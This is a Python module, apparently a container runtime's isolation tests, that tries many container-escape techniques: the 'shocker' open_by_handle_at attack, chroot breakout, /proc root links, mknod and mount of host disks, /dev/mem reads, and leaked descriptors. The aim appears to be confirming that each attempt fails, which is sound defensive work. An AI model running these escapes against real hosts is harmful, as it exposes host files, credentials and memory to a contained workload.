"""Files of the host, and its disks: how to get at them from inside a container."""

import ctypes
import os
import stat
import struct

from pyminidocker.attacks.inside.kit import call, lost, must, read, secret, untried, why, won

_SCRATCH = "/dev/shm"


def host_path() -> None:
    """Open the host's file by its name, and by every number of ``..``."""
    path = os.environ["ATTACK_PATH"]
    last = ""
    for depth in range(0, 12, 3):
        try:
            if read("/.." * depth + path).decode() == secret():
                won(f"read {path}")
        except OSError as error:
            last = why(error)
    lost(last)


def proc_links() -> None:
    """Go by the magic links of all processes to be seen: root, cwd, and open files."""
    path = os.environ["ATTACK_PATH"]
    tried = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("root", "cwd", "task/" + pid + "/root"):
            tried += 1
            try:
                if read(f"/proc/{pid}/{link}{path}").decode() == secret():
                    won(f"read {path} by /proc/{pid}/{link}")
            except OSError:
                continue
    lost(f"{tried} links lead to the container's own root")


def chroot_escape() -> None:
    """Leave a chroot by keeping the working directory outside of it; then climb."""
    os.makedirs(f"{_SCRATCH}/jail", exist_ok=True)
    try:
        os.chroot(f"{_SCRATCH}/jail")
    except OSError as error:
        lost(f"chroot: {why(error)}")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    try:
        if read(os.environ["ATTACK_PATH"]).decode() == secret():
            won("out of the chroot, and out of the container")
    except OSError:
        pass
    lost("the way up ends at the container's root: pivot_root left nothing above it")


def open_by_handle() -> None:
    """The "shocker": name files of the host by inode number, past all directories."""
    if os.path.exists("/etc/hosts"):
        mount_fd = os.open("/etc/hosts", os.O_RDONLY)
    else:
        mount_fd = os.open("/", os.O_RDONLY)
    # struct file_handle: size, type (32-bit inode and generation), inode 2, the root of ext4.
    handle = struct.pack("IiII", 8, 1, 2, 0)
    fd = must("open_by_handle_at", mount_fd, handle, os.O_RDONLY)
    for path in (os.environ["ATTACK_PATH"], "etc/shadow"):
        try:
            found = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd)
            won(f"opened {path} of the host: descriptor {found}")
        except OSError:
            continue
    lost("a handle opens, but of the container's own files only")


def namespace_handle() -> None:
    """Name the machine's first namespaces by handle (Linux 6.18) and join them."""
    error = ""
    for kind, number in ((0x10000000, 0xEFFFFFFD), (0x20000000, 0xEFFFFFFC)):
        handle = struct.pack("IiQII", 16, 0xF1, 0, kind, number)
        fd, error = call("open_by_handle_at", -10003, handle, os.O_RDONLY)
        if not error and not call("setns", fd, kind)[1]:
            won("joined a namespace of the machine")
    lost(f"open_by_handle_at: {error or 'opened, but setns refuses'}")


def _disks() -> list[tuple[str, int, int]]:
    try:
        rows = [line.split() for line in read("/proc/partitions").decode().splitlines()[2:]]
    except OSError:
        rows = []
    disks = [(row[3], int(row[0]), int(row[1])) for row in rows if len(row) == 4]
    return disks or [("sda", 8, 0), ("vda", 254, 0)]


def make_disk() -> None:
    """Make a device node of the machine's disk and read it."""
    last = ""
    for name, major, minor in _disks():
        path = f"{_SCRATCH}/{name}"
        try:
            os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(major, minor))
            read(path)
        except OSError as error:
            last = f"mknod b {major} {minor}: {why(error)}"
            continue
        won(f"read the disk {name}")
    lost(last)


def mount_disk() -> None:
    """Mount the machine's disk."""
    name, major, minor = _disks()[0]
    os.makedirs(f"{_SCRATCH}/disk", exist_ok=True)
    error = ""
    for source in (f"/dev/{name}", f"/proc/self/fd/{major}", "/dev/root"):
        for kind in (b"ext4", b"xfs", b"btrfs", b"vfat"):
            _, error = call("mount", source.encode(), f"{_SCRATCH}/disk".encode(), kind, 1, None)
            if not error:
                won(f"mounted {source}")
    lost(f"mount {name} ({major}:{minor}): {error}")


def device_tree() -> None:
    """Mount devtmpfs, which has a node for every device of the machine."""
    os.makedirs(f"{_SCRATCH}/dev", exist_ok=True)
    must("mount", b"x", f"{_SCRATCH}/dev".encode(), b"devtmpfs", 0, None)
    last = "no disk in it"
    for name, _, _ in _disks():
        try:
            read(f"{_SCRATCH}/dev/{name}")
            won(f"read the disk {name}")
        except OSError as error:
            last = why(error)
    lost(last)


def kernel_memory() -> None:
    """Read the machine's memory by /dev/mem, /dev/kmem, /dev/port or /proc/kcore."""
    last = ""
    for name, minor in (("mem", 1), ("kmem", 2), ("port", 4)):
        path = f"/dev/{name}"
        if not os.path.exists(path):
            path = f"{_SCRATCH}/{name}"
            try:
                os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, minor))
            except OSError as error:
                last = f"mknod c 1 {minor}: {why(error)}"
                continue
        try:
            read(path, 16)
            won(f"read {path}")
        except OSError as error:
            last = why(error)
    lost(last)


def leaked_descriptors() -> None:
    """Look through all descriptors that were left open for something of the host."""
    seen = 0
    for pid in ("self", "1"):
        for number in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{number}")
                info = os.stat(f"/proc/{pid}/fd/{number}")
            except OSError:
                continue
            seen += 1
            if stat.S_ISDIR(info.st_mode) and not link.startswith("/proc/"):
                for path in (os.environ["ATTACK_PATH"], ".." + os.environ["ATTACK_PATH"]):
                    try:
                        if read(f"/proc/{pid}/fd/{number}{path}").decode() == secret():
                            won(f"descriptor {number} of {pid} leads to the host: {link}")
                    except OSError:
                        continue
    lost(f"{seen} descriptors, none leads out")


def shared_memory() -> None:
    """Read what a process of the host keeps in shared memory: /dev/shm and System V."""
    last = "another file"
    try:
        if read(f"/dev/shm/{os.environ['ATTACK_SHM']}").decode() == secret():
            won("read a file of the host's /dev/shm")
    except OSError as error:
        last = why(error)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.shmget(int(os.environ["ATTACK_KEY"]), 0, 0) >= 0:
        won("found the host's System V segment")
    lost(f"{last}; no such System V segment here")


def other_layers() -> None:
    """Open the directories that /proc/mounts names as the layers of this container."""
    tried = 0
    for line in read("/proc/self/mountinfo", 1 << 16).decode().splitlines():
        for word in line.split()[-1].split(","):
            key, _, value = word.partition("=")
            if key in ("upperdir", "workdir", "lowerdir", "lowerdir+"):
                for path in value.split(":"):
                    tried += 1
                    if os.path.isdir(path) and path != "/":
                        won(f"{path} can be opened")
    if not tried:
        untried("the root is no overlay that names its layers")
    lost(f"{tried} paths are named, none can be reached")
